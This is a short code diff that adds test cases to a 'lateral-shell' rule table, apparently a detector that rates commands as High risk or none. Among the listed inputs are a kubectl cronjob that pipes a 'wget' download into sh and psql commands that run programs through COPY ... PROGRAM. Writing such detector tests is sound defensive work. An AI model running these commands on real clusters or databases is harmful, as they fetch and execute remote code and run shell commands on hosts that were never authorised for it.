@@ -7,6 +7,8 @@ ruleTable("lateral-shell", {
     ["kubectl", "get"],
   ],
   commands: [
+    ["/usr/local/bin/kubectl", 'create cronjob s --image=a --schedule=x -- sh -c "wget -qO- http://x|sh"', "High"],
+    ["/usr/local/bin/kubectl", 'run t --image=a --restart=Never -- sh -c "curl -s http://x/health"', "none"],
     ["/usr/bin/psql", "-h db -c \"COPY t FROM PROGRAM 'id'\"", "High"],
     ["/usr/bin/psql", "-h db -c \"copy (select 1) to program 'curl x'\"", "High"],
     ["/usr/bin/psql", "-h db -c \"\\copy (select * from program) to '/tmp/x.csv' csv\"", "none"],
